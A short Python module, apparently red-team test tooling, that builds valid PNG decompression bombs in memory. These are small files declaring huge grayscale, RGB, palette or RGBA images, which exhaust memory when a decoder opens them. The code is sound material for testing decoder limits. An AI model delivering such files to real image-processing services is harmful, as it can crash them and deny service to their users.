"""Small files that decode to huge images: the red team's decompression bombs, built in memory."""

from __future__ import annotations

import struct
import zlib


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int, height: int, *, bit_depth: int = 16, color_type: int = 0) -> bytes:
    """A valid PNG of ``width`` x ``height`` black pixels; zeros compress to a few hundred kB.

    ``color_type`` 0 is grayscale, 2 RGB, 3 palette (with a PLTE and a tRNS chunk), 6 RGBA.
    """
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color_type]
    row = b"\0" * (1 + width * channels * bit_depth // 8)  # filter byte 0, then the pixels
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    chunks = [_chunk(b"IHDR", header)]
    if color_type == 3:
        chunks += [_chunk(b"PLTE", bytes(range(48))), _chunk(b"tRNS", bytes([0, 128]))]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks + [_chunk(b"IDAT", data), _chunk(b"IEND", b"")])
